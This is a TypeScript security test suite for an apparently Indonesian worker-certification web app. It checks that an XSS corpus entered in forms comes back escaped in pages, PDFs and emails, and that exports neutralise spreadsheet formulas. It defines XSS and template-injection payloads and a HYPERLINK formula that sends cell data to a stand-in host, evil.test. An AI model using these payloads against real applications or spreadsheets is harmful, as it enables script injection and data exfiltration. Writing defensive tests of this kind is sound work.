import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect } from 'chai';
import ExcelJS from 'exceljs';
import request from 'supertest';
import type { Express } from 'express';
import { Worker } from '../../src/modules/workers';
import { buildApp } from '../support/harness';
import { createUser, createWorkshop, PASSWORD } from '../support/factories';
import { createScheme, createAssessment } from '../support/certificates-factories';
import { formBody, signIn, type Agent } from '../support/http';
import { MailSink } from '../support/mail-sink';

/**
 * One string carrying the usual ways out of an HTML text node or attribute, a template
 * expression for EJS and i18next, and a javascript: URL; short enough for name fields.
 */
const PAYLOAD = `"'><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}<%=7*7%>`;
/** Markers that may only appear escaped in HTML. */
const RAW = ['<script>alert(1)', '<img src=x', "'><", '<%=7*7%>'];
/** What a spreadsheet would run. */
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"klik")';

function assertEscaped(html: string, where: string): void {
  for (const raw of RAW) expect(html.includes(raw), `${where} contains raw ${raw}`).to.equal(false);
}

interface Field { tag: 'input' | 'textarea' | 'select'; name: string; type: string; value: string; options: string[] }

/** The fields of the form posting to `action` (the page's forms are simple, server-rendered HTML). */
function formFields(html: string, action: string): Field[] {
  const start = html.search(new RegExp(`<form[^>]*action="${action.replace(/[?]/g, '\\?')}"`));
  if (start < 0) throw new Error(`no form posting to ${action}`);
  const form = html.slice(start, html.indexOf('</form>', start));
  const fields: Field[] = [];
  const attr = (tag: string, a: string) => new RegExp(`\\s${a}="([^"]*)"`).exec(tag)?.[1] ?? '';
  for (const m of form.matchAll(/<select\b([^>]*)>([\s\S]*?)<\/select>|<(input|textarea)\b([^>]*)>/g)) {
    const tag = (m[3] ?? 'select') as Field['tag'];
    const name = attr(m[0], 'name');
    if (!name) continue;
    const options = tag === 'select' ? [...(m[2] ?? '').matchAll(/<option value="([^"]*)"/g)].map((o) => o[1]!).filter(Boolean) : [];
    fields.push({ tag, name, type: tag === 'input' ? attr(m[4] ?? '', 'type') || 'text' : tag, value: attr(m[0], 'value'), options });
  }
  return fields;
}

let seq = 0;
/** A value a person could type that the field accepts, or the payload for every free-text field. */
function valueFor(f: Field, fallback: Set<string>, action: string): string | null {
  const future = new Date(Date.now() + 30 * 86400_000).toISOString().slice(0, 10);
  switch (f.type) {
    case 'hidden': return f.value;
    case 'email': return `xss${++seq}@takaru.test`;
    case 'tel': return `08122700${String(1000 + ++seq).slice(-4)}`;
    case 'number': return '10';
    case 'date': return /date|from/i.test(f.name) && !/issue|assess/i.test(f.name) ? future : new Date().toISOString().slice(0, 10);
    case 'time': return /end/i.test(f.name) ? '12:00' : '09:00';
    case 'password': return 'kata-sandi-xss-123';
    case 'checkbox': case 'radio': return f.value;
    case 'select': return f.options[0] ?? '';
    default:
      if (fallback.has(f.name)) {
        if (/phone/i.test(f.name)) return `08122701${String(1000 + ++seq).slice(-4)}`;
        if (/nik/i.test(f.name)) return '';
        if (/code/i.test(f.name)) {
          const n = ++seq;
          return action.startsWith('/competency-units') ? `C.28XSS${String(n % 100).padStart(2, '0')}.${String(n).padStart(3, '0')}.1` : `XSS-${String(n).padStart(2, '0')}`;
        }
        return `Teks biasa ${++seq}`;
      }
      return PAYLOAD;
  }
}

/**
 * Fills every field of a form (the payload in each free-text field, sensible values elsewhere: the
 * first option, the first checkbox and radio of each group) and posts it. Fields that the form
 * refuses for their format (a code, a phone) get a plain value on the next try; the payload must
 * get through in the others.
 */
async function submitWithPayload(agent: Agent, page: string, action: string): Promise<{ location: string; payloadFields: string[] }> {
  const fallback = new Set<string>();
  let last = '';
  for (let attempt = 0; attempt < 4; attempt++) {
    const html = (await agent.get(page).expect(200)).text;
    const fields = formFields(html, action);
    const body: Record<string, string[]> = {};
    const seenGroup = new Set<string>();
    for (const f of fields) {
      // One checkbox/radio per group; repeated rows (units of a course, elements of a unit): the first row only.
      const repeat = seenGroup.has(f.name);
      seenGroup.add(f.name);
      if (repeat && (f.type === 'checkbox' || f.type === 'radio')) continue;
      const v = repeat && f.type !== 'hidden' ? '' : valueFor(f, fallback, action);
      if (v !== null) (body[f.name] ??= []).push(v);
    }
    const res = await agent.post(action).type('form').send(formBody(body));
    if (res.status === 303) {
      const payloadFields = Object.entries(body).filter(([, v]) => v.includes(PAYLOAD)).map(([k]) => k);
      return { location: res.headers.location!, payloadFields };
    }
    expect(res.status, `${action}: ${res.text.slice(0, 300)}`).to.equal(422);
    assertEscaped(res.text, `${action} re-rendered with errors`);
    const errored = [...res.text.matchAll(/id="f-([\w-]+)-error"/g)].map((m) => m[1]!);
    last = [...res.text.matchAll(/<p class="error"[^>]*>([^<]*)</g)].map((m) => m[1]).join(' | ') + ` fields: ${errored.join(',')}; sent: ${[...Object.keys(body)].join(',')}`;
    if (errored.length === 0 || errored.every((e) => fallback.has(e))) {
      // Errors not tied to a field: use plain text everywhere but keep trying the payload in names.
      for (const f of fields) if (!/name|title|notes?|description|reason|location|organisation|owner|products|position/i.test(f.name)) fallback.add(f.name);
    }
    for (const e of errored) fallback.add(e);
  }
  throw new Error(`${action}: the form never accepted the values: ${last}`);
}

function pdfText(bytes: Buffer): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'xss-pdf-'));
  try {
    writeFileSync(path.join(dir, 'a.pdf'), bytes);
    return execFileSync('pdftotext', [path.join(dir, 'a.pdf'), '-'], { encoding: 'utf8' });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

describe('security: an XSS corpus typed into the main forms comes back inert everywhere', () => {
  const sink = new MailSink();
  let smtpUrl = '';
  before(async () => {
    smtpUrl = await sink.start();
  });
  after(() => sink.stop());

  async function admin(): Promise<{ app: Express; agent: Agent }> {
    const { app } = buildApp({ smtpUrl });
    await createUser({ email: 'admin@xss.test', roles: ['admin'] });
    return { app, agent: await signIn(app, 'admin@xss.test', PASSWORD) };
  }

  const FORMS: [string, string, string][] = [
    // page with the form, its action, the list page that shows what was saved
    ['/workshops/new', '/workshops', '/workshops'],
    ['/workers/new', '/workers', '/workers'],
    ['/rooms/new', '/rooms', '/rooms'],
    ['/instructors/new', '/instructors', '/instructors'],
    ['/competency-units/new', '/competency-units', '/competency-units'],
    ['/courses/new', '/courses', '/courses'],
    ['/job-profiles/new', '/job-profiles', '/job-profiles'],
    ['/certificates/schemes/new', '/certificates/schemes', '/certificates/schemes'],
    ['/admin/users/new', '/admin/users', '/admin/users'],
  ];

  it('escapes it on the saved record and in the lists, for every text field of each form', async function () {
    this.timeout(120_000);
    const { agent } = await admin();
    await createWorkshop({ name: 'Bengkel Biasa' });
    await createUser({ email: 'pekerja@xss.test', roles: ['worker'] });
    const report: string[] = [];
    for (const [page, action, list] of FORMS) {
      const { location, payloadFields } = await submitWithPayload(agent, page, action);
      expect(payloadFields, `${action}: the payload went into no field`).to.not.deep.equal([]);
      report.push(`${action}: ${payloadFields.join(', ')}`);
      for (const shown of [location, list]) {
        const res = await agent.get(shown);
        expect(res.status, shown).to.equal(200);
        assertEscaped(res.text, shown);
        expect(res.text, `${shown} shows the saved text, escaped`).to.include('&lt;script&gt;alert(1)&lt;/script&gt;');
      }
    }
    // Which fields took the payload, for the reader of the test output.
    expect(report).to.have.length(FORMS.length);
  });

  it('keeps it inert in the certificate page and PDF (text, never markup) and on the public verification page', async function () {
    this.timeout(60_000);
    const { app, agent } = await admin();
    const workshop = await createWorkshop();
    const worker = await Worker.create({ name: PAYLOAD, phone: '+6281227009999', workshop: workshop._id, trades: ['welding'], position: PAYLOAD });
    const scheme = await createScheme({ name: `Skema ${PAYLOAD}`.slice(0, 100) });
    const assessment = await createAssessment(worker._id, scheme);
    const issued = await agent.post(`/certificates/assessments/${assessment._id}/issue`).type('form')
      .send(formBody({ issueDate: new Date().toISOString().slice(0, 10), _csrf: /name="_csrf" value="([^"]+)"/.exec((await agent.get(`/certificates/assessments/${assessment._id}`)).text)![1]! }));
    expect(issued.status, issued.text.slice(0, 300)).to.equal(303);
    const certPath = issued.headers.location!;
    const page = await agent.get(certPath).expect(200);
    assertEscaped(page.text, certPath);
    const pdf = await agent.get(`${certPath}.pdf`).buffer(true).parse(binary).expect(200);
    const text = pdfText(pdf.body as Buffer).replace(/\s+/g, '');
    // The PDF prints the name as typed: plain text, nothing interpreted or lost.
    expect(text).to.include('<script>alert(1)</script>'.replace(/\s+/g, ''));
    const verify = /href="(\/verify\/[\w-]+)"|href="https?:\/\/[^/]+(\/verify\/[\w-]+)"/.exec(page.text);
    const verifyPath = verify?.[1] ?? verify?.[2];
    expect(verifyPath, 'verification link on the certificate page').to.be.a('string');
    const pub = await request(app).get(verifyPath!).expect(200);
    assertEscaped(pub.text, verifyPath!);
  });

  it('neutralises formulas and keeps markup as text in the CSV and XLSX exports', async function () {
    this.timeout(60_000);
    const { agent } = await admin();
    const workshop = await createWorkshop({ name: 'Bengkel Ekspor' });
    await Worker.create({ name: FORMULA, phone: '+6281227008888', workshop: workshop._id, trades: ['welding'], position: 'Juru las' });
    await Worker.create({ name: PAYLOAD, phone: '+6281227008877', workshop: workshop._id, trades: ['welding'], position: 'Juru las' });
    const exports: { path: string; kind: 'csv' | 'xlsx' }[] = [
      { path: `/competencies/matrix.csv?workshop=${workshop.id}`, kind: 'csv' },
      { path: `/competencies/matrix.xlsx?workshop=${workshop.id}`, kind: 'xlsx' },
    ];
    if ((await agent.get('/reports')).status !== 404) {
      exports.push({ path: '/reports/export.csv', kind: 'csv' }, { path: '/reports/export.xlsx', kind: 'xlsx' });
    }
    for (const e of exports) {
      const res = await agent.get(e.path).buffer(true).parse(binary);
      expect(res.status, e.path).to.equal(200);
      const bytes = res.body as Buffer;
      if (e.kind === 'csv') {
        const csv = bytes.toString('utf8');
        // No cell starts with a formula character.
        expect(csv, e.path).not.to.match(/(^|[,;\n])"?[=+\-@]HYPERLINK/);
        if (csv.includes('HYPERLINK')) expect(csv).to.include("'=HYPERLINK");
      } else {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(bytes as unknown as ArrayBuffer);
        wb.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
          expect(cell.type, `${e.path} ${sheet.name}!${cell.address} is a formula`).not.to.equal(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value.startsWith('='), `${e.path} ${cell.address}: ${cell.value}`).to.equal(false);
        })));
      }
    }
  });

  it('escapes it in emails: the HTML part shows the name as text', async function () {
    this.timeout(60_000);
    sink.clear();
    const { app } = await admin();
    await createUser({ email: 'korban@xss.test', name: PAYLOAD });
    const agent = request.agent(app);
    const token = /name="_csrf" value="([^"]+)"/.exec((await agent.get('/forgot-password')).text)![1]!;
    await agent.post('/forgot-password').type('form').send(formBody({ identifier: 'korban@xss.test', _csrf: token })).expect(303);
    const [mail] = await sink.waitFor(1);
    expect(mail!.html, 'an HTML part').to.be.a('string');
    assertEscaped(String(mail!.html), 'the HTML email');
    expect(String(mail!.html)).to.include('&lt;script&gt;');
    expect(mail!.subject ?? '').not.to.include('<script>');
  });
});
